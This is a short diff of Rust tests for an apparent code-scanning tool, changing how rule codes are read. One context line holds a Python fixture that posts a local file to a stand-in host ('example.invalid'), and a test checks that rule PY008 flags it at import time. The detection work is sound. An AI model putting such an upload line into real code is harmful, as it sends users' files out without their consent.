@@ -55,7 +55,7 @@ fn findings(a: &Artifact) -> Vec<(String, Severity, String)> {
     assay_rules::analyze_artifact(a)
         .findings
         .into_iter()
-        .map(|f| (f.rule.code, f.severity, f.location.path))
+        .map(|f| (f.rule.code().to_owned(), f.severity, f.location.path))
         .collect()
 }
 
@@ -376,7 +376,7 @@ requests.post('https://example.invalid/up', files={'d': open(p, 'rb')})\n";
         );
         let r = assay_rules::analyze_artifact(&a);
         assert!(
-            r.findings.iter().any(|f| f.rule.code == "PY008"
+            r.findings.iter().any(|f| f.rule.code() == "PY008"
                 && f.context == Some(assay_core::ExecutionContext::ImportTime)),
             "{:?}",
             r.findings
